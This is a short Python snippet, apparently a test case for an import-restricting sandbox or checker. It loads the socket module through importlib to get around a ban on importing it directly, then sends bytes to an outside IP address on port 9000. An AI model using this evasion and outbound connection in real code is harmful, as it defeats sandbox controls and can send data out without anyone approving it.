"""importlib is allowed, what it is asked for is not."""
import importlib

socket = importlib.import_module("socket")
socket.create_connection(("93.184.216.35", 9000)).sendall(b"data")
